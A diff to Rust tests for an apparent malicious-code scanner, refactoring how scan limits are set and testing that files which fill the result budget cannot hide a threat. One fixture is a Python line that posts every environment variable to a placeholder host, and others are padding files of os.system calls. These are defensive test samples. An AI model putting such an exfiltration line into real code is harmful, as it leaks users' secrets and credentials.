@@ -15,14 +15,18 @@ fn of_files(files: &[(&str, &[u8])]) -> Scan {
 }
 
 fn judged(files: &[(&str, &[u8])], declared: Option<&Declared>, policy: &Policy) -> Scan {
+    let limits = Limits { time: std::time::Duration::from_hours(1), ..Limits::default() };
+    within(&limits, files, declared, policy)
+}
+
+fn within(limits: &Limits, files: &[(&str, &[u8])], declared: Option<&Declared>, policy: &Policy) -> Scan {
     let folder = TempDir::new().unwrap();
     for (path, bytes) in files {
         let path = folder.path().join(path);
         fs::create_dir_all(path.parent().unwrap()).unwrap();
         fs::write(path, bytes).unwrap();
     }
-    let limits = Limits { time: std::time::Duration::from_hours(1), ..Limits::default() };
-    scan_folder(folder.path(), declared, policy, &Advisories::default(), &limits).unwrap()
+    scan_folder(folder.path(), declared, policy, &Advisories::default(), limits).unwrap()
 }
 
 fn names(scan: &Scan) -> BTreeSet<&str> {
@@ -80,15 +84,18 @@ fn what_cannot_be_read_is_not_clean() {
 
 #[test]
 fn a_file_that_takes_all_room_hides_nothing_after_it() {
-    let filling = format!("import os\nx = '{}'\n{}", "a".repeat(16_000), "os.system(x)\n".repeat(700));
+    let few = Limits { result_bytes: 120_000, ..Limits::default() };
+    let of_few = |files: &[(&str, &[u8])]| within(&few, files, None, &Policy::default());
+    let filling = format!("import os\n{}", "os.system('aaaaaaaaaaaaaaaa')\n".repeat(500));
     let theft: &[u8] = b"import os, requests\nrequests.post('https://a.example', json=dict(os.environ))\n";
-    let scan = of_files(&[("a.py", filling.as_bytes()), ("b.py", filling.as_bytes()), ("main.py", theft)]);
+    let scan = of_few(&[("a.py", filling.as_bytes()), ("b.py", filling.as_bytes()), ("main.py", theft)]);
     assert!(names(&scan).contains("environment-flow") && names(&scan).contains("too-costly"), "{:?}", names(&scan));
     assert_eq!((scan.verdict, scan.is_complete), (Verdict::Malicious, false));
     // What takes all room together is suspicious, too, though no file takes too much.
-    let half = format!("import os\nx = '{}'\n{}", "a".repeat(16_000), "os.system(x)\n".repeat(400));
-    let names_of = ["a.py", "b.py", "c.py", "d.py", "e.py"];
-    let scan = of_files(&names_of.map(|name| (name, half.as_bytes())));
+    let part = format!("import os\n{}", "os.system('aaaaaaaaaaaaaaaa')\n".repeat(60));
+    let parts = ["a.py", "b.py", "c.py", "d.py", "e.py", "f.py", "g.py", "h.py"].map(|name| (name, part.as_bytes()));
+    assert!(of_few(&parts[..1]).is_complete);
+    let scan = of_few(&parts);
     assert_eq!((scan.verdict, scan.is_complete), (Verdict::Suspicious, false), "{:?}", names(&scan));
 }
 
